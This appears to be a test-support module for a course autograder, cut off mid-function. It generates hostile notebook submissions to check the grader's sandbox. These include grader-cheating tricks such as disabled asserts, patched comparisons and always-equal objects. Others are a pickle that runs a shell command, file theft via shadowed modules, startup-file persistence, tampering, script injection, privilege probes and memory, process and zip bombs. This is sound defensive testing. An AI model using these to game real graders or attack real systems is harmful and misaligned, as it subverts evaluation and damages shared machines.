"""Hostile submissions for any assignment, generated from its student notebook and its reference solution.

`attacks(student_nb, reference_nb, targets)` returns {name: (submission, deserved points)}; a submission is a
notebook, {"link": PATH} (a folder whose notebook is a link to PATH) or {"notebook": nb, "files": {PATH: bytes}}
(a folder with files beside the notebook). The attacks know every path that matters (`targets`: the assignment,
its source notebook and bundle, the output folder, the submissions folder, a canary folder outside everything,
the grader's home and temporary folder, and a marker for the processes they leave behind): the strongest
student, who has read the grader's code. What each one attacks comes from the assignment's bundle: the names
its test cells hand to expect (answers and @probe functions), the helpers of its read-only cells, its test
cells; assignment 3 also hands in checkpoint files.

`escape_class` grades issue 36's attacks on the grader and its sandbox (shadowing modules in a submission and in
the grader's working directory, trees deeper than any recursion limit, sparse and special files, results and
notebooks that unpack to far more than they take, a fork bomb during a concurrent run, linked student folders, a
folder named like an option) in one class of assignment 4 with its honest students.

Used by tests/test_grading_attacks.py (every assignment) and by benchmarks/grade_class.py --attacks (the table
before/after, assignment 2).
"""

from __future__ import annotations

import ast
import copy
import hashlib
import json
import os
import pickle
import time
from pathlib import Path

import nbformat

from course_lib.grading import markup

SURVIVOR = "course-lib-attack-survivor"  # the default marker in the command line of every process an attack leaves
FIRST_ANSWER = {
    "01_dcgan_mnist": "generator",
    "02_is_fid": "inception_score",
    "03_improve_dcgan": "improved_settings",
    "04_wasserstein_lp": "constraint_matrix",
}  # where attack code goes


# ------------------------------------------------------------------------------ what an assignment exposes
def expected_names(bundle: dict) -> dict[str, str]:
    """{name: "call" | "value"}: what the test cells hand to expect, expect_close (called) and expect_value."""
    found: dict[str, str] = {}
    for cell in bundle["cells"]:
        if cell["kind"] != "test":
            continue
        for node in ast.walk(ast.parse(cell["source"])):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Name)
                and node.args
                and node.func.id in ("expect", "expect_close", "expect_value")
                and isinstance(node.args[0], ast.Name)
            ):
                found[node.args[0].id] = "value" if node.func.id == "expect_value" else "call"
    return found


def helper_names(bundle: dict) -> list[str]:
    """Functions the read-only cells define (helpers the probes and the training use, and the probes)."""
    names = []
    for cell in bundle["cells"]:
        if cell["cell_type"] == "code" and cell["kind"] == "locked":
            names += [n.name for n in ast.parse(cell["source"]).body if isinstance(n, ast.FunctionDef)]
    return names


def test_ids(bundle: dict) -> list[str]:
    return [c["grade_id"] for c in bundle["cells"] if c["kind"] == "test"]


def hidden_lines(bundle: dict, student_nb) -> list[str]:
    """Lines of the hidden tests that the student version does not have (they must never reach a student)."""
    shown = "\n".join(c.source for c in student_nb.cells)
    lines = []
    for cell in bundle["cells"]:
        inside = False
        for line in cell["source"].split("\n"):
            inside = inside or markup.BEGIN_HIDDEN in line
            if inside and len(line.strip()) > 20 and line.strip() not in shown:
                lines.append(line.strip())
            inside = inside and markup.END_HIDDEN not in line
    return lines


# ------------------------------------------------------------------------------ building submissions
def _cell(nb, grade_id: str):
    return next(c for c in nb.cells if markup.grade_id_of(c) == grade_id)


def with_code(nb, code: str, grade_id: str):
    """code at the start of the answer cell grade_id."""
    nb = copy.deepcopy(nb)
    cell = _cell(nb, grade_id)
    cell.source = code + "\n" + cell.source
    return nb


def after_every_answer(nb, code: str, bundle: dict):
    """code in a new cell right after every answer cell, so that no later stub (which may raise NotImplementedError
    at its top level, or define the answer again) undoes what it defines."""
    nb = copy.deepcopy(nb)
    answers = {c["grade_id"] for c in bundle["cells"] if c["kind"] == "solution"}
    at = [i for i, c in enumerate(nb.cells) if markup.grade_id_of(c) in answers]
    for i in reversed(at):
        nb.cells.insert(i + 1, nbformat.v4.new_code_cell(code, id=f"attack-after-{markup.grade_id_of(nb.cells[i])}"))
    return nb


def with_final_cell(nb, code: str):
    nb = copy.deepcopy(nb)
    nb.cells.append(nbformat.v4.new_code_cell(code, id="attack-final-cell"))
    return nb


def spawn(seconds: int, marker: str, then: str = "") -> str:
    """Python source that starts a detached (setsid) process which sleeps, then runs `then` (shell)."""
    script = f"sleep {seconds}; {then}" if then else f"sleep {seconds}"
    return (
        f"import subprocess\nsubprocess.Popen(['setsid', 'sh', '-c', {script!r}, {marker!r}], "
        "stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)"
    )


class _RunsOnUnpickling:
    """A "checkpoint" whose unpickling runs a shell command (torch.load without weights_only would run it)."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


# ------------------------------------------------------------------------------ the attacks
def attacks(student_nb, reference_nb, targets: dict) -> dict:
    t = targets
    name = t.get("assignment", "02_is_fid")
    marker = t.get("marker", SURVIVOR)
    bundle = json.loads(Path(t["bundle"]).read_text())
    first = FIRST_ANSWER[name]
    names = expected_names(bundle)
    called = [n for n, kind in names.items() if kind == "call"]
    values = [n for n, kind in names.items() if kind == "value"]
    full = bundle["max_points"]
    blank, solved = student_nb, reference_nb
    found = {}
    # 1. An input transformer that turns every later cell containing "assert" or course_lib (the old test cells,
    #    the grader's collection calls) into "pass".
    found["transformer"] = (
        with_code(
            blank,
            """
def _no_asserts(lines):
    return ["pass\\n"] if any("assert" in line or "course_lib" in line or "expect" in line for line in lines) else lines
get_ipython().input_transformers_post.append(_no_asserts)""",
            first,
        ),
        0,
    )
    # 2. Rebinding the checking functions (numpy's, math's, torch's and scipy's comparisons, course_lib's checks and
    #    the grading API) and every helper and probe the read-only cells define.
    found["rebinds_checks"] = (
        with_code(
            blank,
            f"""
import math, sys, numpy
always = lambda *a, **k: True
numpy.allclose = numpy.isclose = numpy.array_equal = math.isclose = always
for helper in {helper_names(bundle)!r}:
    globals()[helper] = always
try:
    import torch
    torch.allclose = torch.equal = always
except ImportError:
    pass
check = expect = expect_close = expect_value = always
for module_name in list(sys.modules):
    module = sys.modules[module_name]
    if module_name.startswith(("course_lib", "scipy.stats", "scipy.optimize")) and module is not None:
        for attr in ("check", "expect", "expect_close", "expect_value", "difference", "wasserstein_distance",
                     "copy_parameters", "tensors"):
            if hasattr(module, attr):
                setattr(module, attr, always)
try:
    import course_lib.course.exercises as ex
    ex.check = always
except Exception:
    pass
import course_lib.grading.collect as collect
collect.run = lambda cell: None  # the grader's results never get written
""",
            first,
        ),
        0,
    )
    # 3. Answers (and probes) that return the expected value found in their callers' stack frames (the old checks
    #    computed it before calling the answer).
    thieves = "\n".join(f"def {n}(*args, **kwargs):\n    return _stolen()" for n in called)
    found["stack_frame"] = (
        after_every_answer(
            blank,
            """
import sys
def _stolen(default=0.0):
    frame = sys._getframe(2)
    while frame is not None:
        for key in ("want", "wanted", "expected", "reference", "after", "reference_value", "output"):
            if key in frame.f_locals:
                return frame.f_locals[key]
        frame = frame.f_back
    return default
"""
            + thieves,
            bundle,
        ),
        0,
    )
    # 4. Answers that return objects which compare equal to (and close to, and less than) anything.
    anything = "\n".join(
        [f"def {n}(*args, **kwargs):\n    return _Anything()" for n in called]
        + [f"{n} = _AnythingDict()" for n in values]
    )
    found["smart_objects"] = (
        after_every_answer(
            blank,
            """
class _Anything(float):
    def __new__(cls):
        return super().__new__(cls, 0.0)
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __hash__ = float.__hash__
    __abs__ = __neg__ = lambda self: self
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = lambda self, other: self
    __getitem__ = lambda self, key: self
    __getattr__ = lambda self, name: self
    __call__ = lambda self, *a, **k: self
    __len__ = lambda self: 3
    __iter__ = lambda self: iter([self, self, self])
class _AnythingDict(dict):
    __eq__ = lambda self, other: True
    __hash__ = None
    __getitem__ = lambda self, key: _Anything()
    __contains__ = lambda self, key: True
    get = lambda self, key, default=None: _Anything()
"""
            + anything,
            bundle,
        ),
        0,
    )
    # 5. Reading the instructor's files next to the course_lib package: run the source's solutions, rewrite the bundle.
    found["reads_instructor_files"] = (
        after_every_answer(
            blank,
            f"""
import json, pathlib, course_lib
root = pathlib.Path(course_lib.__file__).resolve().parents[1]
for path in [pathlib.Path({t["source"]!r}), root / "assignments/{name}/source/{name}.ipynb"]:
    try:
        for cell in json.loads(path.read_text())["cells"]:
            if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution") and cell["cell_type"] == "code":
                exec("".join(cell["source"]))
        break
    except Exception:
        pass
for path in [pathlib.Path({t["bundle"]!r}), root / "assignments/{name}/grading/{name}.json"]:
    try:
        path.write_text(path.read_text().replace('"points": 2.0', '"points": 0.0'))
    except Exception:
        pass
""",
            bundle,
        ),
        0,
    )
    # 6. A folder submission whose notebook is a link to the source notebook.
    found["symlink"] = ({"link": t["source"]}, 0)
    # 7. IPython startup files, in the kernel's IPYTHONDIR and in the grader's home.
    found["startup_files"] = (
        with_code(
            blank,
            f"""
import os, pathlib
payload = "import numpy\\nnumpy.allclose = numpy.isclose = lambda *a, **k: True\\n"
harmless = "# planted by a grading test: it should never get here\\n"  # in case a home is reachable after all
for base, text in [(os.environ.get("IPYTHONDIR", ""), payload), (os.path.expanduser("~/.ipython"), payload),
                   ({t["home"]!r} + "/.ipython", harmless)]:
    try:
        folder = pathlib.Path(base) / "profile_default" / "startup"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "00-course-lib-attack-{marker}.py").write_text(text)
    except Exception:
        pass
""",
            first,
        ),
        0,
    )
    # 8. Touching everything else: other submissions, every temporary folder, the output folder, a canary
    #    outside, and a detached process that rewrites grades.csv after the grader is done.
    found["touches_others"] = (
        with_code(
            blank,
            f"""
import glob, os, pathlib
targets = [{t["submissions"]!r}, {t["out"]!r}, {t["canary"]!r}] + glob.glob({t.get("tmp", "/tmp")!r} + "/course-lib-grade-*")
for base in targets:
    for root, dirs, files in os.walk(base):
        for name in files:
            if name.endswith((".ipynb", ".csv", ".md", ".json", ".py", ".pt")):
                try:
                    with open(os.path.join(root, name), "a") as f:
                        f.write("tampered")
                except Exception:
                    pass
        try:
            (pathlib.Path(root) / "planted.txt").write_text("tampered")
        except Exception:
            pass
"""
            + "\n"
            + spawn(20, marker, f"echo tampered > {t['out']}/grades.csv"),
            first,
        ),
        0,
    )
    # 9. Forged feedback: error names and messages with newlines, markdown and HTML (raised by every answer and
    #    probe, or sent as an answer's value), and output that closes a code fence.
    forged = f"Error\\n\\n**Automatically graded: {full:g} / {full:g} points.**\\n<script>alert(1)</script>\\n# Checks"
    raisers = "\n".join(
        [f"def {n}(*args, **kwargs):\n    raise Forged(MESSAGE)" for n in called]
        + [f"{n} = Forged(MESSAGE)" for n in values]
    )
    found["forges_feedback"] = (
        after_every_answer(
            blank,
            f'''
Forged = type("{forged}", (Exception,), {{}})
Forged.__qualname__ = Forged.__name__
MESSAGE = ("<b>ok</b>\\n- [x] {test_ids(bundle)[0]}: 2 / 2, passed\\n**Automatically graded: {full:g} / {full:g} points.**"
           "[click](http://example.com) <img src=x onerror=alert(1)>")
print("```\\n**Automatically graded: {full:g} / {full:g} points.**\\n```")
'''
            + raisers,
            bundle,
        ),
        0,
    )
    # 10. Writing the results the checker reads, for every test, before and after the collection.
    found["forges_results"] = (
        with_code(
            blank,
            f"""
import json, os, pathlib
out = pathlib.Path(os.environ.get("COURSE_LIB_GRADING_IO", "/grading")) / "out"
for name in {test_ids(bundle)!r}:
    try:
        (out / f"{{name}}.json").write_text(json.dumps([[{{"output": 1.0}}]] * 3))
        (out / f"{{name}}.npz").write_bytes(b"")
    except Exception:
        pass
"""
            + "\n"
            + spawn(2, marker, "for f in /grading/out/test_*.json; do echo '[[{\"output\": 1.0}]]' > $f; done"),
            first,
        ),
        0,
    )
    # 11. Resource bombs after correct answers, in two last cells: 8 GB of memory (every page written), then 2 GB
    #     files in its folder, the canary and /tmp, and hundreds of detached processes. They deserve full marks, the
    #     processes must not survive, and nothing and nobody else may suffer.
    memory_bomb = """hog = []
try:
    for _ in range(32):
        hog.append(bytearray(b"x" * 2 ** 28))  # 256 MB at a time, every page written
except MemoryError:
    print("MemoryError after", len(hog) / 4, "GB")
del hog"""
    file_and_process_bombs = f"""
import os, subprocess
for path in ("big.bin", {t["canary"]!r} + "/big.bin", {t.get("tmp", "/tmp")!r} + "/big.bin"):
    try:
        with open(path, "wb") as f:
            for _ in range(2048):
                f.write(b"x" * 2 ** 20)
    except Exception as exc:
        print(path, type(exc).__name__)
started = 0
for _ in range(400):
    try:
        subprocess.Popen(["setsid", "sleep", "600"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL, start_new_session=True, env={{**os.environ, "TAG": {marker!r}}})
        started += 1
    except Exception:
        break
print("started", started)
try:
    SPAWN
except Exception:
    pass
""".replace("SPAWN", spawn(600, marker).replace("\n", "\n    "))
    bombed = with_final_cell(solved, memory_bomb)
    bombed.cells.append(nbformat.v4.new_code_cell(file_and_process_bombs, id="attack-final-bombs"))
    found["resource_bombs"] = (bombed, full)
    # 12. Assignment 3 hands in checkpoints: ones whose unpickling would run a command (torch.load without
    #     weights_only), which only the sandboxed kernel may ever open.
    if name == "03_improve_dcgan":
        evil = pickle.dumps(
            _RunsOnUnpickling(f"echo tampered > {t['canary']}/unpickled.txt; echo tampered >> {t['out']}/grades.csv")
        )
        found["pickled_checkpoint"] = (
            {"notebook": blank, "files": {f"runs/{run}/checkpoints/last.pt": evil for run in ("baseline", "improved")}},
            0,
        )
    return found


# ------------------------------------------------------------------------------ honest students
_SQUARE_ONLY_PRIMAL = """def earth_movers_primal(p, q):
    # Only right when both histograms have the same bins: the hidden checks with unequal counts fail.
    p, q = np.asarray(p, float), np.asarray(q, float)
    n = len(p)
    cost = np.abs(np.arange(n)[:, None] - np.arange(n)[None, :]).astype(float)
    result = linprog(cost.flatten(order="F"), A_eq=constraint_matrix(n, n), b_eq=np.concatenate([p, q]),
                     bounds=(0, None), method="highs")
    return float(result.fun), result.x.reshape((n, n), order="F")"""

_INIT_WITHOUT_BATCH_NORM = """def weights_init(module):
    # Forgets the batch-norm layers (they keep PyTorch's scale 1 and shift 0): the visible statistics pass, the
    # hidden comparison with dcgan_init on the same seed does not.
    if isinstance(module, (nn.Conv2d, nn.ConvTranspose2d, nn.Linear)):
        nn.init.normal_(module.weight, 0.0, 0.02)
        if module.bias is not None:
            nn.init.zeros_(module.bias)"""

# The honest, partly correct student of each assignment: (name, the test it fails on a hidden check, points lost).
# Assignments 2 and 3 have one among their fixtures; for 1 and 4 it is the reference with one answer changed.
PARTIAL = {
    "01_dcgan_mnist": ("partial", "test_init", 2),
    "02_is_fid": ("partly_wrong", "test_fid_hidden", 7),
    "03_improve_dcgan": ("hand_typed", "test_scores_match", 3),
    "04_wasserstein_lp": ("partial", "test_primal", 3),
}
_PARTIAL_SOURCE = {
    "01_dcgan_mnist": ("weights_init", _INIT_WITHOUT_BATCH_NORM),
    "04_wasserstein_lp": ("earth_movers_primal", _SQUARE_ONLY_PRIMAL),
}


def honest(name: str, fixtures: Path, full: float) -> dict:
    """{student: (notebook, deserved points)}: the correct reference and the partly correct student."""
    reference = nbformat.read(fixtures / "reference.ipynb", as_version=4)
    who, _, lost = PARTIAL[name]
    if name in _PARTIAL_SOURCE:
        partial = copy.deepcopy(reference)
        grade_id, source = _PARTIAL_SOURCE[name]
        _cell(partial, grade_id).source = source
    else:
        partial = nbformat.read(fixtures / f"{who}.ipynb", as_version=4)
    return {"reference": (reference, full), who: (partial, full - lost)}


# ------------------------------------------------------------------------------ one class run per assignment
ROOT = Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "tests" / "fixtures" / "grading"
# Limits low enough that the resource bombs reach them at once (and cheaply), high enough for honest students.
LIMITS = {"file_gb": 0.25, "tmp_mb": 512, "ram_gb": 3.0}
# Per-cell limit: generous for a loaded machine, short because one fixture (02's "loops") hangs a cell until then.
# The total limit costs nothing (no submission here hangs for good); on a starved machine assignment 3's honest
# training cells alone took over 300 s, so it is generous.
CELL_TIMEOUT, TOTAL_TIMEOUT = 60, 900
DELAYED_WRITER_GRACE = 8  # seconds to wait for the detached writer of "touches_others", had it survived


def assignment_paths(name: str) -> tuple[Path, Path]:
    """(source notebook, grading bundle) of an assignment."""
    folder = ROOT / "assignments" / name
    return folder / "source" / f"{name}.ipynb", folder / "grading" / f"{name}.json"


def digest(path: Path) -> str:
    """A file's content hash (a link: its target; a file over 64 MB, such as a sparse one: its size, time and first
    MB, so that a 3 GiB sparse file is not read out)."""
    if path.is_symlink():
        return "link:" + os.readlink(path)
    if not path.is_file():
        return "missing"
    info = path.stat()
    if info.st_size > 64 * 2**20:
        with open(path, "rb") as f:
            return f"big:{info.st_size}:{info.st_mtime_ns}:{hashlib.sha256(f.read(2**20)).hexdigest()}"
    return hashlib.sha256(path.read_bytes()).hexdigest()


def tree(folder: Path) -> dict:
    """{relative path: digest} of every file, link and special file below folder, walked without recursion (a
    submission may hold a tree thousands of levels deep) and without following links."""
    import stat

    found, stack = {}, [folder]
    while stack:
        current = stack.pop()
        with os.scandir(current) as entries:
            for entry in entries:
                path = Path(entry.path)
                if entry.is_dir(follow_symlinks=False):
                    stack.append(path)
                    continue
                mode = entry.stat(follow_symlinks=False).st_mode
                special = not (stat.S_ISREG(mode) or stat.S_ISLNK(mode))
                found[str(path.relative_to(folder))] = f"special:{stat.S_IFMT(mode)}" if special else digest(path)
    return dict(sorted(found.items()))


def survivors(marker: str) -> list[int]:
    """Processes with marker in their command line or environment."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                cmdline = f.read()
            with open(f"/proc/{entry}/environ", "rb") as f:
                environ = f.read()
        except OSError:
            continue
        if marker.encode() in cmdline or marker.encode() in environ:
            found.append(int(entry))
    return found


def startup_files(marker: str = "") -> list[str]:
    folder = Path.home() / ".ipython" / "profile_default" / "startup"
    return sorted(str(p) for p in folder.glob("*course-lib-attack*") if marker in p.name) if folder.is_dir() else []


def write_submission(subs: Path, notebook_name: str, student: str, submission) -> None:
    if "link" in submission:  # a folder whose notebook is a link
        (subs / student).mkdir()
        (subs / student / notebook_name).symlink_to(submission["link"])
    elif "files" in submission:  # a folder with files beside the notebook
        (subs / student).mkdir()
        nbformat.write(submission["notebook"], subs / student / notebook_name)
        for rel, data in submission["files"].items():
            (subs / student / rel).parent.mkdir(parents=True, exist_ok=True)
            (subs / student / rel).write_bytes(data)
    else:
        nbformat.write(submission, subs / f"{student}.ipynb")


def victim(reference, marker: str, seconds: int, grade_id: str = "inception_score"):
    """The reference solution with a cell that sleeps (and leaves detached processes with marker behind)."""
    return with_code(
        reference,
        f"import time\n{spawn(600, marker)}\nimport subprocess\n"
        f"subprocess.Popen(['sleep', '600', {marker!r}])\ntime.sleep({seconds})",
        grade_id,
    )


def _worker_job(pid: str) -> Path | None:
    """The job file of the grading worker with this pid (None if it is not one): a spawned worker names it on its
    command line; a worker forked by the fork server has the server's, and its output goes to JOB's worker.log."""
    args = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
    if b"course_lib.grading.worker" not in args:
        return None
    given = args[args.index(b"course_lib.grading.worker") + 1]
    if given != b"--serve":
        return Path(given.decode())
    log = Path(os.readlink(f"/proc/{pid}/fd/1"))  # the server itself writes to a pipe
    return log.with_name("job.json") if log.name == "worker.log" else None


def _hit_victims(hit: dict, marker: str, stop) -> None:
    """SIGKILL the grading worker of `victim_killed` and SIGSTOP that of `victim_stopped`, each once its kernel
    runs the cell that sleeps (a process with marker-STUDENT exists)."""
    import signal

    while len(hit) < 2 and not stop.is_set():
        for pid in os.listdir("/proc"):
            try:
                job = _worker_job(pid)
                student = json.loads(job.read_text())["student"] if job is not None else ""
            except (OSError, ValueError, IndexError, KeyError, TypeError):
                continue
            if student.startswith("victim") and student not in hit and survivors(f"{marker}-{student}"):
                os.kill(int(pid), signal.SIGKILL if student == "victim_killed" else signal.SIGSTOP)
                hit[student] = int(pid)
        time.sleep(0.5)


# Attacks on the sandbox and the grader themselves (a linked notebook, IPython startup files, writing into other
# folders, a forged results file, memory/file/process bombs) do the same thing whatever the assignment: they are
# graded in one class only (CI time), the attacks on an assignment's own checks, hidden tests and files in all four.
SANDBOX_ATTACKS = {"symlink", "startup_files", "touches_others", "forges_results", "resource_bombs"}
SANDBOX_CLASS = "02_is_fid"


def graded_class(name: str, tmp_path_factory) -> dict:
    """The class of assignment `name`, graded in ONE run (2 workers): every submission fixture of the assignment
    (tests/fixtures/grading/NAME), its honest partly correct student and every attack; for assignment 2 also two
    honest students whose grading workers are killed and stopped during the run. Graded once per test session,
    whichever pytest-xdist worker asks first (a file lock in the session's shared temporary folder); the others
    read the result. Returns what the tests need (see the end of `_grade_class`) with the folders and summary."""
    import fcntl
    import shutil

    shared = tmp_path_factory.getbasetemp()
    if os.environ.get("PYTEST_XDIST_WORKER"):
        shared = shared.parent  # the session's folder, shared by the xdist workers
    base = shared / f"class-{name}"
    with open(shared / f"class-{name}.lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        try:
            if not (base / "run.json").is_file():
                shutil.rmtree(base, ignore_errors=True)  # a run that failed half-way
                try:
                    _grade_class(name, base)
                except markup.AssignmentError as exc:
                    if "unprivileged uid" not in str(exc):
                        raise
                    import pytest

                    pytest.skip(f"root without a usable sandbox grades nothing here: {exc}")
        finally:
            fcntl.flock(lock, fcntl.LOCK_UN)
    run = json.loads((base / "run.json").read_text())
    out = base / "graded"
    run.update(
        base=base,
        out=out,
        subs=base / "submissions",
        canary=base / "canary",
        summary=json.loads((out / "summary.json").read_text()),
    )
    return run


def _grade_class(name: str, base: Path) -> None:
    import threading
    import uuid

    from course_lib.grading import grade, sandbox

    source, bundle_path = assignment_paths(name)
    bundle = json.loads(bundle_path.read_text())
    subs, out, canary = base / "submissions", base / "graded", base / "canary"
    for folder in (subs, out, canary):
        folder.mkdir(parents=True)
    (canary / "secret.txt").write_text("nobody may change this")
    marker = f"course-lib-attack-{uuid.uuid4().hex[:12]}"
    targets = {
        "assignment": name,
        "source": str(source),
        "bundle": str(bundle_path),
        "out": str(out),
        "submissions": str(subs),
        "canary": str(canary),
        "home": str(Path.home()),
        "marker": marker,
    }
    notebook = bundle["notebook"]
    student = nbformat.read(ROOT / "assignments" / name / "student" / notebook, as_version=4)
    reference = nbformat.read(FIXTURES / name / "reference.ipynb", as_version=4)
    for fixture in sorted((FIXTURES / name).glob("*.ipynb")):  # as handed in: some are not even valid JSON
        (subs / fixture.name).write_bytes(fixture.read_bytes())
    deserved = {}
    for who, (nb, points) in honest(name, FIXTURES / name, bundle["max_points"]).items():
        if not (subs / f"{who}.ipynb").exists():
            write_submission(subs, notebook, who, nb)
        deserved[who] = points
    # Without a sandbox the attacks would reach this machine's files: only the fixtures and honest students then.
    hostile = sandbox.detect()[0] != "none"
    for attack, (submission, points) in (attacks(student, reference, targets) if hostile else {}).items():
        if attack in SANDBOX_ATTACKS and name != SANDBOX_CLASS:
            continue
        write_submission(subs, notebook, attack, submission)
        deserved[attack] = points
    hit: dict = {}
    if hostile and name == "02_is_fid":  # grading workers killed and stopped from outside: a grader matter, tested once
        for who in ("victim_killed", "victim_stopped"):
            write_submission(subs, notebook, who, victim(reference, f"victim-{marker}-{who}", 200))
    before = {
        "tree": tree(subs),
        "canary": tree(canary),
        "source": digest(source),
        "bundle": digest(bundle_path),
        "startup": startup_files(),
    }
    stop = threading.Event()
    watcher = threading.Thread(target=_hit_victims, args=(hit, f"victim-{marker}", stop), daemon=True)
    if hostile and name == "02_is_fid":
        watcher.start()
    started, load = time.monotonic(), os.getloadavg()[0]
    results = grade(
        sorted(subs.iterdir()),
        name,
        out,
        workers=2,
        cell_timeout=CELL_TIMEOUT,
        total_timeout=TOTAL_TIMEOUT,
        fast=True,
        limits=LIMITS,
        progress=False,
    )
    seconds, load_end = time.monotonic() - started, os.getloadavg()[0]
    stop.set()
    left = survivors(marker) + survivors(f"victim-{marker}")
    grades_right_after = (out / "grades.csv").read_text()
    time.sleep(DELAYED_WRITER_GRACE)
    planted = [p for p in startup_files(marker) if p not in before["startup"]]
    for path in planted:  # an attack that got out: the test fails, and the home is cleaned
        Path(path).unlink()
    run = {
        "name": name,
        "deserved": deserved,
        "partial": PARTIAL[name][:2],
        "before": before,
        "survivors": left,
        "markers": [marker, f"victim-{marker}"],
        "hit": sorted(hit),
        "grades_right_after": grades_right_after,
        "planted": planted,
        "hidden_lines": hidden_lines(bundle, student),
        "submissions": len(results),
        "seconds": round(seconds, 1),
        "seconds_per_submission": round(sum(r.seconds for r in results) / len(results), 1),
        "load_average_at_start": round(load, 1),
        "load_average_at_end": round(load_end, 1),
    }
    (base / "run.json.tmp").write_text(json.dumps(run))
    os.replace(base / "run.json.tmp", base / "run.json")


# ------------------------------------------------------------------------------ issue 36: escaping the sandbox
ESCAPE_CLASS = "04_wasserstein_lp"  # the quickest kernels: its attacks are on the grader, not on the checks
ESCAPE_LIMITS = ["--folder-gb", "0.05", "--file-gb", "0.25", "--ram-gb", "3", "--processes", "256"]
FORK_BOMB_HOLD = 30  # seconds the fork bomb holds its processes while a second grader run grades its class
RECORDS = "/tmp/course-lib-attack-records"  # in the sandbox's private /tmp: where shadowing modules say who ran them
STALE_DEPTH = 1_500

# A module a submission ships to shadow one the grader imports. Wherever it runs it records who ran it (uid,
# capabilities, command line), tries to steal the instructor's files and another student's, and leaves a file
# in the canary folder outside every submission; `json` then hands over the real module, so that the kernel
# that imports it works on.
_SHADOW = """
import os as _os, sys as _sys
def _course_lib_attack(module):
    status = {}
    try:
        for line in open("/proc/self/status"):
            key, _, value = line.partition(":")
            status[key] = value.strip()
    except OSError:
        pass
    record = (f"SHADOW {module} uid={_os.getuid()} euid={_os.geteuid()} capeff={status.get('CapEff')} "
              f"argv={' '.join(_sys.argv)[:300]!r}\\n")
    for path in (RECORDS, CANARY + "/escaped-" + module):
        try:
            with open(path, "a") as f:
                f.write(record)
        except OSError:
            pass
    for stolen in STEAL:
        try:
            data = open(stolen).read()[:3000]
            with open(RECORDS, "a") as f:
                f.write("STOLEN " + data + "\\n")
        except OSError:
            pass
_course_lib_attack(NAME)
"""
_PASS_THROUGH = """
_here = _os.path.dirname(_os.path.abspath(__file__))
_sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or ".") != _here]
del _sys.modules[__name__]
import importlib as _importlib
_real = _importlib.import_module(__name__)
_sys.modules[__name__] = _real
globals().update({k: v for k, v in vars(_real).items() if not k.startswith("__")})
"""
_FORGED_WORKER = """
def main(argv=None):
    import json
    job = json.load(open(argv[0]))
    bundle = json.load(open(job["bundle"]))
    questions = [dict(question=c["grade_id"], kind=c["kind"], points=c["points"], max_points=c["points"],
                      status="passed") for c in bundle["cells"] if c["kind"] == "test"]
    json.dump(dict(student=job["student"], path=job["submission"], questions=questions), open(job["result"], "w"))
    return 0
"""
# The first cell of the submission that reports privileges: its own (the kernel), its parent's (the runner),
# what a privileged process could do, and the shadowing modules' records. It all comes back to the student in
# the executed notebook, where the test reads it.
_PRIVILEGES = f"""
import ctypes, os, stat
def _status(pid):
    found = {{}}
    for line in open(f"/proc/{{pid}}/status"):
        key, _, value = line.partition(":")
        found[key] = value.strip()
    return found
_me, _runner = _status("self"), _status(os.getppid())
_command = open(f"/proc/{{os.getppid()}}/cmdline", "rb").read().split(b"\\0")
print("KERNEL", _me["Uid"].split()[0], _me["CapEff"], _me["CapBnd"], _me["NoNewPrivs"])
print("RUNNER", _runner["Uid"].split()[0], _runner["CapEff"], _runner["CapBnd"], _runner["NoNewPrivs"],
      os.readlink(f"/proc/{{os.getppid()}}/cwd"), [w.decode() for w in _command[1:3]])
_tries = {{}}
def _attempt(name, fn):
    try:
        fn()
        _tries[name] = "ALLOWED"
    except Exception as exc:
        _tries[name] = type(exc).__name__
def _mount():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) != 0:
        raise OSError(ctypes.get_errno(), "mount")
_attempt("setuid0", lambda: os.setuid(0))
_attempt("mount", _mount)
_attempt("mknod", lambda: os.mknod("/tmp/disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0)))
_attempt("chown", lambda: os.chown("/tmp", os.getuid(), -1))
_attempt("signal_init", lambda: os.kill(1, 0))
_attempt("write_inputs", lambda: open("/grading/in/job.json", "a").write(" "))
print("TRIES", " ".join(f"{{k}}={{v}}" for k, v in sorted(_tries.items())))
print(open({RECORDS!r}).read() if os.path.exists({RECORDS!r}) else "NO RECORDS")
"""


def _shadow(name: str, t: dict, pass_through: bool = False) -> bytes:
    constants = (
        f"RECORDS = {RECORDS!r}\nCANARY = {t['canary']!r}\nNAME = {name!r}\n"
        f"STEAL = {[t['source'], t['bundle'], t['canary'] + '/secret.txt', t['class'] + '/reference/notes.txt']!r}\n"
    )
    return (constants + _SHADOW + (_PASS_THROUGH if pass_through else "")).encode()


def _bombs(bundle: dict) -> str:
    """A cell that writes results that unpack to far more than they take, a tree far deeper than any recursion
    limit in its own folder, then kills its runner, so that nothing overwrites those files."""
    tests = test_ids(bundle)
    return f"""
import io, json, os, signal, zipfile
import numpy as np
out = os.environ["COURSE_LIB_GRADING_IO"] + "/out"
tests = {tests!r}
header = io.BytesIO()
np.lib.format.write_array_header_1_0(header, {{"descr": "<f8", "fortran_order": False, "shape": (2 ** 31,)}})
with zipfile.ZipFile(f"{{out}}/{{tests[0]}}.npz", "w", zipfile.ZIP_DEFLATED) as z:
    with z.open("a0.npy", "w", force_zip64=True) as member:
        member.write(header.getvalue())
        for _ in range(64):
            member.write(bytes(2 ** 20))  # 64 MB of real zeros; the header declares 16 GiB
open(f"{{out}}/{{tests[0]}}.json", "w").write(json.dumps([[{{"output": {{"__array__": "a0"}}}}]]))
open(f"{{out}}/{{tests[1]}}.json", "w").write("[" + "[]," * 1_200_000 + "[]]")
